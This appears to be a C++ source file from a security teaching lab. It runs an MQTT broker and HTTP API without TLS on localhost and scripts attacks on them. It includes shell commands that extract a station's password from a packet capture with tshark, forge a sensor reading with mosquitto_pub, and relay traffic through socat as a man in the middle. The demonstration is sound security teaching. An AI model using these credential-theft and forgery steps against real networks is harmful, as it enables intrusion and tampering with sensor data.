// Act one: the network as it is found in the field. Mosquitto asks for passwords, the API answers
// whoever asks, and nothing is encrypted. Everything here is meant to go wrong: a step holds when
// the intruder *succeeds*, because that is what the act sets out to show.
#include <fmt/core.h>

#include <algorithm>
#include <nlohmann/json.hpp>

#include "lib/core/escape.h"
#include "lib/core/time.h"
#include "lib/mqtt/raw_client.h"
#include "src/attack/outcome.h"
#include "src/lab/room.h"
#include "src/report/catalogue.h"
#include "src/weather/payload.h"

namespace wxsec::lab {
namespace {

using core::Code;
using core::fail;
using core::Result;
using namespace std::chrono_literals;

constexpr std::chrono::milliseconds kInterval{250};
constexpr std::uint64_t kReadingsEach = 5;
// Cold enough to raise every frost alarm of the county; in range, so that nothing else refuses it.
constexpr double kForgedTemperature = -41.5;
constexpr std::uint64_t kForgedSequence = 900'001;
constexpr std::string_view kVictim = "station-0001";

std::string password_of(std::string_view name) { return fmt::format("meadow-{}-1969", name); }

broker::Settings broker_settings(unsigned stations) {
  broker::Settings settings;
  settings.port = kMqttPort;
  settings.security = broker::Security::plaintext_lesson;
  // One more than report at first: it will meet a man in the middle.
  for (unsigned i = 1; i <= stations + 1; ++i) {
    const std::string name = certs::station_name(i);
    settings.accounts.push_back({name, core::Secret(password_of(name))});
  }
  for (const char* name : {"ingest", "operator"})
    settings.accounts.push_back({name, core::Secret(password_of(name))});
  return settings;
}

api::ServeOptions api_options(const core::Path& dir) {
  api::ServeOptions options;
  options.listen.address = fmt::format("127.0.0.1:{}", kHttpPort);
  options.broker.url = fmt::format("mqtt://127.0.0.1:{}", kMqttPort);
  options.broker.user = "ingest";
  options.broker.password = core::Secret(password_of("ingest"));
  options.database = dir / "readings.db";
  options.insecure_lesson = true;
  return options;
}

station::PublisherOptions station_options(unsigned stations) {
  station::PublisherOptions options = plaintext_station(1);
  for (unsigned i = 2; i <= stations; ++i)
    options.stations.push_back(std::move(plaintext_station(i).stations.front()));
  return options;
}

Result<void> start(Room& room, StepRecord& record) {
  const core::Path dir = room.act_dir("plain");
  WXSEC_TRY(core::make_directories(dir, 0700));
  sniff::SessionOptions capture;
  capture.interface = "lo";
  capture.write_to = room.outputs.plain_capture;
  room.sniffer = WXSEC_TRY(sniff::LiveSniffer::start(capture, room.clock));
  room.broker_reload = std::make_unique<broker::ReloadRequest>();
  room.broker = WXSEC_TRY(
      start_broker(broker_settings(room.options.stations), dir, *room.broker_reload, room.stop));
  room.api_reload = std::make_unique<api::ReloadSwitch>();
  room.api = WXSEC_TRY(start_api(api_options(dir), *room.api_reload, room.clock, room.stop));
  std::vector<std::string> listening;
  for (const broker::Listener& l : room.broker->ready().listening) {
    listening.push_back(fmt::format("mosquitto (pid {}) listens on {}:{}", room.broker->ready().pid,
                                    l.address, l.port));
  }
  expect(record, room.broker->ready().port == kMqttPort,
         "Mosquitto serves MQTT without TLS and asks for a password", listening);
  expect(record, room.api->ready().port == kHttpPort, "the API serves HTTP without TLS",
         {fmt::format("listening on {}:{}", room.api->ready().host, room.api->ready().port)});
  return {};
}

Result<void> publish(Room& room, StepRecord& record) {
  room.stations =
      WXSEC_TRY(start_stations(station_options(room.options.stations), room.clock, room.stop));
  const std::uint64_t readings = WXSEC_TRY(watch_reporting(room, room.plain, {}, kReadingsEach));
  const Answer answer = WXSEC_TRY(ask_api({}, "/api/v1/stations"));
  room.plain.api_answer = fmt::format("{} over {}", answer.status, answer.protocol);
  room.plain.connect_time = answer.took;
  expect(record, readings >= kReadingsEach * room.options.stations,
         fmt::format("{} stations report, and the API shows their readings", room.options.stations),
         {fmt::format("GET http://localhost:{}/api/v1/stations: {}, {} readings", kHttpPort,
                      answer.status, readings)});
  return {};
}

attack::Login login_of(const sniff::Credential& stolen) {
  return {stolen.name, stolen.value.clone()};
}

// With one stolen password to break in with, and another for whoever tells whether that worked: the
// access list lets a station publish and the API listen.
Result<void> attempt_with(std::string_view user, std::string_view witness, Room& room,
                          StepRecord& record, std::vector<std::string> names) {
  attack::Target target;
  target.broker = net::Endpoint{net::Scheme::mqtt, "127.0.0.1", kMqttPort, ""};
  target.api = net::Endpoint{net::Scheme::http, "127.0.0.1", kHttpPort, ""};
  target.listen_for = 500ms;
  attack::Loot loot;
  loot.login = login_of(WXSEC_TRY(stolen_password(room, user)));
  loot.second = login_of(WXSEC_TRY(stolen_password(room, witness)));
  return attempt(room, record, room.plain, std::move(names), target, loot, report::Outcome::broken);
}

// The same attempts as in the TLS act; here every one that finds its target open must break in.
Result<void> attack_open_doors(Room& room, StepRecord& record) {
  WXSEC_TRY(attempt_with(kVictim, "ingest", room, record,
                         {"intercept", "plain-mqtt", "plain-publish", "plain-http"}));
  return attempt_with("ingest", kVictim, room, record, {"plain-subscribe"});
}

// Publishes as the victim with a password that only the wire can have told us.
Result<void> publish_forged(const Room& room, const attack::Login& login) {
  weather::Reading forged;
  forged.sequence = kForgedSequence;
  forged.time = room.clock.now();
  forged.temperature_c = kForgedTemperature;
  forged.dew_point_c = kForgedTemperature - 1;
  forged.relative_humidity_pct = 90;
  forged.pressure_hpa = 1013;
  mqtt::RawOptions options;
  options.host = "127.0.0.1";
  options.port = kMqttPort;
  auto client = mqtt::RawClient::open(options);
  if (!client) return fail(client.refusal.error);
  mqtt::RawConnect connect;
  connect.client_id = "somebody-else";
  connect.username = login.username;
  connect.password = login.password.clone();
  if (const auto accepted = (*client.value)->connect(connect); !accepted)
    return fail(accepted.refusal.error);
  const mqtt::Message message{fmt::format("wx/{}/reading", login.username), weather::encode(forged),
                              mqtt::Qos::at_least_once, mqtt::Retain::no};
  if (const auto sent = (*client.value)->publish(message); !sent) return fail(sent.refusal.error);
  (*client.value)->disconnect();
  return {};
}

// The API's own words about the forged reading, once it shows it.
std::optional<std::string> forged_as_shown(const std::stop_token& stop) {
  for (const auto deadline = core::Deadline::in(15s); !deadline.passed() && !stop.stop_requested();
       std::this_thread::sleep_for(40ms)) {
    const auto shown = readings_shown({}, std::string(kVictim));
    if (!shown) continue;
    for (const ShownReading& reading : *shown) {
      if (reading.sequence == kForgedSequence) return reading.json;
    }
  }
  return {};
}

Result<void> forge(Room& room, StepRecord& record) {
  const sniff::Credential stolen = WXSEC_TRY(stolen_password(room, kVictim));
  WXSEC_TRY(publish_forged(room, login_of(stolen)));
  report::Check check = attack::begin(net::Endpoint{net::Scheme::mqtt, "127.0.0.1", kMqttPort, ""});
  check.name = kStolenPassword;
  check.title = kStolenPasswordTitle;
  check.evidence.push_back(fmt::format("password read in packet {}: user {}, {}",
                                       stolen.place.packet, stolen.name, stolen.masked));
  const auto shown = forged_as_shown(room.stop);
  if (!shown) {
    note_attempt(record, room.plain,
                 attack::inconclusive(std::move(check), "the API never showed the forged reading"),
                 report::Outcome::broken);
    return {};
  }
  check.evidence.push_back("the API answers: " + *shown);
  note_attempt(record, room.plain,
               attack::broken(std::move(check), report::id::kPlainPublish, std::string(kVictim),
                              fmt::format("{} degrees in {}'s name: accepted, and shown by the API",
                                          kForgedTemperature, kVictim)),
               report::Outcome::broken);
  return {};
}

Result<void> eavesdrop(Room& room, StepRecord& record) {
  const ActCounts counts = end_services(room);
  room.plain.wire = WXSEC_TRY(room.sniffer->finish());
  room.sniffer.reset();
  room.plain.readings_stored = counts.api ? counts.api->stored : 0;
  const sniff::Exposure& wire = room.plain.wire;
  std::size_t passwords = 0;
  std::vector<std::string> stolen;
  for (unsigned i = 1; i <= room.options.stations + 1; ++i) {
    const std::string name = certs::station_name(i);
    const auto it = std::find_if(wire.credentials.begin(), wire.credentials.end(),
                                 [&](const sniff::Credential& c) {
                                   return c.name == name && c.value.reveal() == password_of(name);
                                 });
    if (it == wire.credentials.end()) continue;
    ++passwords;
    stolen.push_back(fmt::format("packet {}: {} -> {}: user {}, {} {}", it->place.packet,
                                 it->place.client, it->place.server, it->name, it->kind,
                                 it->masked));
  }
  expect(record, passwords == room.options.stations + 1,
         "the eavesdropper reads every station's password", stolen);
  const ReadingsSeen seen = readings_in_clear(wire);
  const auto first = std::find_if(wire.messages.begin(), wire.messages.end(), [](const auto& m) {
    return m.protocol == "mqtt" && m.subject.ends_with("/reading");
  });
  expect(record, seen.distinct.size() >= room.plain.readings_stored && !seen.distinct.empty(),
         "and every reading",
         {fmt::format("{} readings in clear, told apart by station and number, on the wire in {} "
                      "copies (station to broker, broker to each subscriber); {} stored by the API",
                      seen.distinct.size(), seen.copies, room.plain.readings_stored),
          first == wire.messages.end()
              ? "none"
              : fmt::format("packet {}: {} {}", first->place.packet, first->subject, first->text)});
  record.exhibits.push_back(
      {fmt::format("packet {}: {}", wire.plaintext.place.packet, wire.plaintext.title),
       wire.plaintext.bytes,
       "Topic and values stand there as they were sent. Nobody had to break anything."});
  return {};
}

}  // namespace

station::PublisherOptions plaintext_station(unsigned number) {
  const std::string name = certs::station_name(number);
  station::PublisherOptions options;
  options.host = "127.0.0.1";
  options.port = kMqttPort;
  options.security = station::Security::plaintext_lesson;
  options.interval = kInterval;
  options.stations.push_back({name, {}, {}, core::Secret(password_of(name))});
  return options;
}

const std::vector<Step>& plaintext_steps() {
  static const std::vector<Step> steps{
      {{"plaintext", "plain-start", "Start a broker and an API without TLS",
        "This is how many networks begin: Mosquitto asks for a user name and a password, the API "
        "answers over HTTP, and "
        "everybody hopes that nobody listens. A sniffer is started first; from now on it sees what "
        "any machine on the "
        "same wire, access point or router would see.",
        "wxsec broker run --insecure-lesson    # each in a terminal of its own\n"
        "wxsec api serve --insecure-lesson\n"
        "sudo wxsec sniff -i lo -w plain.pcap"},
       start},
      {{"plaintext", "plain-publish", "Three stations report",
        "Each station connects with its own password and publishes a reading as JSON with quality "
        "of service 1. The API "
        "subscribes, stores and shows them. It works, which is why nobody changes it.",
        "wxsec station run --count 3 --insecure-lesson\nwxsec api get "
        "http://localhost:8080/api/v1/stations"},
       publish},
      {{"plaintext", "plain-attack", "Try the open doors",
        "The basic intrusion attempts: publish and subscribe without TLS, ask the API over HTTP, "
        "and listen for "
        "passwords. In this act each attempt is expected to succeed.",
        "# a station that logs in while the eavesdropper listens\n"
        "(sleep 2; wxsec station run --insecure-lesson --no-journal --name station-0003 --readings "
        "2 --interval 1s) &\n"
        "sudo wxsec attack plaintext --broker mqtt://localhost:1883 --api http://localhost:8080 "
        "--listen-for 10s"},
       attack_open_doors},
      {{"plaintext", "plain-forge", "Forge a reading with a stolen password",
        "Whoever can listen can also speak. The password is taken out of the capture, and a "
        "reading of -41.5 degrees is "
        "published in the victim's name. The broker cannot know better: the password is right.",
        "wxsec sniff -r plain.pcap --show-secrets\n"
        "password=$(tshark -r plain.pcap -Y 'mqtt.username == \"station-0001\"' -T fields -e "
        "mqtt.passwd | head -n 1)\n"
        "mosquitto_pub -h localhost -p 1883 -u station-0001 -P \"$password\" -q 1 -t "
        "wx/station-0001/reading -m "
        "'{\"temperature_c\":-41.5,\"dew_point_c\":-42.5,\"relative_humidity_pct\":90,"
        "\"pressure_hpa\":1013,\"wind_speed_ms\":0,\"wind_gust_ms\":0,\"wind_direction_deg\":0,"
        "\"precipitation_mm\":0,\"sequence\":900001,\"time\":\"'$(date -u +%FT%TZ)'\"}'\n"
        "wxsec api get "
        "'http://localhost:8080/api/v1/stations/station-0001/readings?order=desc&limit=1'"},
       forge},
      {{"plaintext", "plain-intruders", "Come without a certificate, and stand in the middle",
        "Nobody shows who they are here, neither client nor server. So a client without any "
        "certificate gets in, and "
        "one more station takes whoever answers for the broker: a relay, which passes everything "
        "on and changes the "
        "temperature on the way. Nothing in the protocol lets either end notice.",
        "# reads along; apt install socat\n"
        "socat -v TCP-LISTEN:1884,bind=127.0.0.1,reuseaddr,fork TCP:localhost:1883 &\n"
        "wxsec station run --insecure-lesson --no-journal --name station-0003 --readings 2 "
        "--interval 1s --broker mqtt://localhost:1884"},
       enter_without_certificate},
      {{"plaintext", "plain-eavesdrop", "Read the capture",
        "The act is over and the capture file is complete. What did it cost to learn everything? "
        "No password was "
        "guessed, no program was broken into: the network handed it out.",
        "wxsec sniff -r plain.pcap\ntshark -r plain.pcap -Y mqtt"},
       eavesdrop},
  };
  return steps;
}

}  // namespace wxsec::lab
